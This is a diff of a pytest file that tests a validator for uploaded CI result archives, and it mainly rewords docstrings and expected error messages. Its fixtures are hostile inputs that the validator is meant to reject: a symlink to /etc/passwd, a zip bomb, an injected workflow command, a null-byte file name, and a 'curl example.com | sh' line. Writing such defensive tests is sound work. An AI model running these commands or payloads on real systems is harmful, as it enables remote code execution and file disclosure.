@@ -1,4 +1,4 @@
-"""What jobs hand over is taken only when all about it is as it should be; the rest is a problem in words."""
+"""Artifacts are accepted only when everything about them is as expected; anything else is a problem in words."""
 
 from __future__ import annotations
 
@@ -29,12 +29,12 @@ FIRST, *OTHERS = unlocked().criteria
 
 
 def recorded(*criteria: CriterionResult) -> bytes:
-    """The record of a milestone 1 that is said to be unlocked by these criteria."""
+    """Encode a record of milestone 1 that claims to be unlocked by these criteria."""
     return to_json(unlocked(criteria=criteria)).encode()
 
 
 def first(**changes: object) -> bytes:
-    """The same record with another first criterion."""
+    """Encode the record with a different first criterion."""
     return recorded(FIRST.model_copy(update=changes), *OTHERS)
 
 
@@ -42,7 +42,7 @@ NAME = "tinytorch-milestone-1"
 
 
 def problem_of(runs: Runs, client: Client, session: str = "milestone-1") -> str:
-    """What is said of the one session that was expected, and whose result is not taken."""
+    """Return the problem with the one expected session, whose result is not accepted."""
     found = read_artifacts(client, REPOSITORY, RUN, (session,), COMMIT, MANIFEST)
     assert found.results == ()
     [problem] = found.problems
@@ -52,11 +52,12 @@ def problem_of(runs: Runs, client: Client, session: str = "milestone-1") -> str:
 
 
 def hand_over(runs: Runs, archive: bytes, **changes: object) -> None:
+    """Upload this archive as the session's artifact."""
     add_artifact(runs.hub, runs.repository, RUN, NAME, archive, **changes)
 
 
 def entry(name: str, data: bytes = GOOD, *, kind: int = 0, **fields: object) -> bytes:
-    """An archive of one entry that is made by hand."""
+    """Build an archive with one handmade entry."""
     stream = io.BytesIO()
     with zipfile.ZipFile(stream, "w") as archive:
         info = zipfile.ZipInfo(name)
@@ -117,7 +118,7 @@ def test_what_is_too_large_is_not_fetched(runs: Runs, client: Client) -> None:
 @pytest.mark.parametrize(
     ("changes", "told"),
     [
-        ({"digest": "sha256:" + "0" * 64}, "not what its digest says"),
+        ({"digest": "sha256:" + "0" * 64}, "does not match its digest"),
         ({"digest": None}, "knows no digest"),
         ({"expired": True}, "has expired"),
     ],
@@ -140,20 +141,20 @@ BAD_ARCHIVES: dict[str, tuple[Callable[[], bytes], str]] = {
     "workflow command": (lambda: entry("::error::x\n"), "': :error::x'"),
     "null in its name": (
         lambda: entry("resultXjson").replace(b"resultXjson", b"result\0json"),
-        "should hold result.json",
+        "instead of result.json",
     ),
-    "a link": (lambda: entry("result.json", b"/etc/passwd", kind=stat.S_IFLNK), "no ordinary file"),
-    "a device": (lambda: entry("result.json", kind=stat.S_IFCHR), "no ordinary file"),
-    "a folder": (lambda: entry("result.json", b"", kind=stat.S_IFDIR), "no ordinary file"),
-    "bzip2": (lambda: entry("result.json", method=zipfile.ZIP_BZIP2), "packed in a way"),
+    "a link": (lambda: entry("result.json", b"/etc/passwd", kind=stat.S_IFLNK), "not a regular file"),
+    "a device": (lambda: entry("result.json", kind=stat.S_IFCHR), "not a regular file"),
+    "a folder": (lambda: entry("result.json", b"", kind=stat.S_IFDIR), "not a regular file"),
+    "bzip2": (lambda: entry("result.json", method=zipfile.ZIP_BZIP2), "unsupported compression"),
     "a bomb": (lambda: entry("result.json", b" " * (UNPACKED + 1)), "larger than 16384 KiB"),
-    "cut off": (lambda: entry("result.json")[:-30], "no sound archive"),
+    "cut off": (lambda: entry("result.json")[:-30], "not a valid archive"),
     "damaged": (
         lambda: entry("result.json", method=zipfile.ZIP_STORED).replace(b"Basic", b"BASIC"),
-        "no sound archive",
+        "not a valid archive",
     ),
-    "no archive": (lambda: b"MZ" * 999, "no sound archive"),
-    "empty": (lambda: b"", "no sound archive"),
+    "no archive": (lambda: b"MZ" * 999, "not a valid archive"),
+    "empty": (lambda: b"", "not a valid archive"),
 }
 
 
@@ -187,21 +188,21 @@ def test_no_bytes_break_the_reading(noise: bytes, where: int, put: bytes) -> Non
 @pytest.mark.parametrize(
     ("data", "told"),
     [
-        (b"", "no result record"),
-        (b"[" * 100_000, "no result record"),
-        (b'{"record": "tinytorch/result/v2"}', "no result record"),
-        (GOOD.replace(b'"seed": 42', b'"seed": 42, "extra": 1'), "no result record"),
-        (GOOD.replace(b'"verdict": "unlocked"', b'"verdict": "gold"'), "no result record"),
+        (b"", "not a result record"),
+        (b"[" * 100_000, "not a result record"),
+        (b'{"record": "tinytorch/result/v2"}', "not a result record"),
+        (GOOD.replace(b'"seed": 42', b'"seed": 42, "extra": 1'), "not a result record"),
+        (GOOD.replace(b'"verdict": "unlocked"', b'"verdict": "gold"'), "not a result record"),
         (to_json(failing()).encode(), "a result of 'module-02_tensor'"),
-        (to_json(made_for(unlocked(), "b" * 40)).encode(), f"a result of '{'b' * 40}', and not of {COMMIT[:7]}"),
+        (to_json(made_for(unlocked(), "b" * 40)).encode(), f"a result of '{'b' * 40}', not of {COMMIT[:7]}"),
         (to_json(made_for(unlocked(), None)).encode(), "a result of no commit"),
-        (first(status=CriterionStatus.FAILED), "a verdict that its criteria"),
-        (first(measured=FIRST.threshold + 1), "whose figure misses its threshold"),
+        (first(status=CriterionStatus.FAILED), "a verdict that does not follow"),
+        (first(measured=FIRST.threshold + 1), "figure misses the threshold"),
         (to_json(unlocked(name="Alles")).encode(), "something else"),
         (to_json(unlocked(medal="All of them")).encode(), "something else"),
         (to_json(unlocked(reproduce="curl example.com | sh")).encode(), "something else"),
-        (to_json(unlocked(started_at=datetime(2900, 1, 1, tzinfo=UTC))).encode(), "in days to come"),
-        (first(measured=None), "whose figure misses its threshold"),
+        (to_json(unlocked(started_at=datetime(2900, 1, 1, tzinfo=UTC))).encode(), "dated in the future"),
+        (first(measured=None), "figure misses the threshold"),
         (recorded(), "this course's criteria"),
         (recorded(*OTHERS), "this course's criteria"),
         (recorded(FIRST, FIRST, *OTHERS), "this course's criteria"),
